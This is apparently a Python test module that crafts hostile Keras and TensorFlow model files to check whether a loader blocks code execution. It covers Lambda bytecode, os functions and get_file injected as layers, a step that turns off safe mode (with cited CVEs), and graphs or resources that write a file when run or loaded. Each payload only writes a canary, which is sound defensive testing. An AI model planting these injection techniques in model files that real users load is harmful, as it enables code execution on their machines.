"""Hostile files for the formats of Keras and TensorFlow; no formats here."""

from __future__ import annotations

import json
import os
import zipfile
from typing import Any, Callable, Dict, List

from ..registry import Attack

Load = Callable[[str], Any]
Node = Dict[str, Any]
DOOR = "door"  # name of the layer in an honest file that a hostile one takes the place of


def configurations(format: Any) -> List[Attack]:
    """Layers that are something else, written into the configuration of an honest file."""

    def planter(layers: Callable[[Node, str], List[Node]]) -> Callable[[str, str], None]:
        def plant(path: str, canary: str) -> None:
            format.save(_honest(), path)
            _edit(path, lambda layer: layers(layer, canary))

        return plant

    def lax(path: str) -> Any:
        return format.restore(path, False)

    bytecode, safe = "bytecode in a Lambda layer (CVE-2024-3660, CVE-2025-9905)", format.load
    return [
        Attack("strict", bytecode, planter(_bytecode), safe),
        Attack("strict", "a function of os as a layer (CVE-2025-1550)", planter(_foreign), safe),
        Attack("strict", "get_file of Keras as a layer (CVE-2025-8747)", planter(_fetch), safe),
        Attack("strict", "an end of safe mode, then bytecode (CVE-2025-9906)", planter(_off), safe),
        Attack("lax", bytecode + "; safe_mode=False", planter(_bytecode), lax),
    ]


def _honest() -> Any:
    import keras

    rows = keras.Input((20,))
    door = keras.layers.Activation("linear", name=DOOR)(rows)
    return keras.Model(rows, [door, door], name="encoder")


def _bytecode(layer: Node, canary: str) -> List[Node]:
    """A Lambda around code that opens a file when the layer is called, as it is to find a shape."""
    from keras.src.utils.python_utils import func_dump

    code, _, closure = func_dump(lambda inputs: (open(canary, "w"), inputs)[1])
    held = {"code": code, "defaults": None, "closure": closure}
    function = {"class_name": "__lambda__", "config": held}
    config = {"name": DOOR, "function": function, "arguments": {}}
    return [dict(layer, module="keras.layers", class_name="Lambda", config=config)]


def _foreign(layer: Node, canary: str) -> List[Node]:
    return [layer, _call("os", "mkdir", [canary], {})]


def _fetch(layer: Node, canary: str) -> List[Node]:
    """A file of this machine, copied to where the configuration says."""
    folder, name = os.path.split(canary)
    where = {"origin": "file://" + __file__, "cache_dir": folder, "cache_subdir": ""}
    return [layer, _call("keras.utils", "get_file", [name], where)]


def _off(layer: Node, canary: str) -> List[Node]:
    end = _call("keras.config", "enable_unsafe_deserialization", [], {})
    return [end, *_bytecode(layer, canary)]


def _call(module: str, name: str, args: List[Any], kwargs: Node) -> Node:
    """A layer that is a function, called as its node in the graph says."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "name": "call",
        "inbound_nodes": [{"args": args, "kwargs": kwargs}],
    }


def _edit(path: str, change: Callable[[Node], List[Node]]) -> None:
    """Replace the layer `DOOR` in the configuration that the file at `path` holds."""

    def rewritten(text: Any) -> str:
        model = json.loads(text)
        layers = model["config"]["layers"]
        place = [layer["config"]["name"] for layer in layers].index(DOOR)
        layers[place : place + 1] = change(layers[place])
        return json.dumps(model)

    if path.endswith(".keras"):
        _edit_zip(path, rewritten)
    elif path.endswith(".h5"):
        _edit_hdf5(path, rewritten)
    else:
        with open(path, encoding="utf-8") as file:
            text = rewritten(file.read())
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)


def _edit_zip(path: str, rewritten: Callable[[Any], str]) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["config.json"] = rewritten(members["config.json"]).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _edit_hdf5(path: str, rewritten: Callable[[Any], str]) -> None:
    import h5py

    with h5py.File(path, "r+") as file:
        file.attrs["model_config"] = rewritten(file.attrs["model_config"])


def graphs(about: str, load: Load) -> List[Attack]:
    """Graphs of TensorFlow whose own operators write a file: when they are run, and when loaded."""

    def planter(make: Callable[[str], Any]) -> Callable[[str, str], None]:
        def plant(path: str, canary: str) -> None:
            import tensorflow

            tensorflow.saved_model.save(make(canary), path)
            os.makedirs(os.path.join(path, os.path.dirname(about)))
            with open(os.path.join(path, about), "w", encoding="utf-8") as file:
                json.dump({"answers": "encoder", "widths": []}, file)

        return plant

    return [
        Attack("strict", "the graph writes a file when it is asked", planter(_asked), load),
        Attack("strict", "a resource writes a file to initialise itself", planter(_loaded), load),
    ]


def _asked(canary: str) -> Any:
    import tensorflow

    def serve(rows: Any) -> Any:
        with tensorflow.control_dependencies([tensorflow.io.write_file(canary, "")]):
            return [tensorflow.identity(rows)]

    module = tensorflow.Module()
    module.serve = tensorflow.function(serve, input_signature=_rows())
    return module


def _loaded(canary: str) -> Any:
    """A resource whose initialiser runs in the process that loads it, as that of a table does."""
    import tensorflow

    class Resource(tensorflow.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        def _create_resource(self) -> Any:
            return tensorflow.raw_ops.MutableHashTableV2(
                key_dtype=tensorflow.string, value_dtype=tensorflow.int64
            )

        def _initialize(self) -> None:
            tensorflow.io.write_file(canary, "")

    def serve(rows: Any) -> Any:
        tensorflow.raw_ops.LookupTableSizeV2(table_handle=module.resource.resource_handle)
        return [tensorflow.identity(rows)]

    module = tensorflow.Module()
    module.resource = Resource()
    module.serve = tensorflow.function(serve, input_signature=_rows())
    return module


def _rows() -> Any:
    import tensorflow

    return [tensorflow.TensorSpec([None, None], tensorflow.float32)]
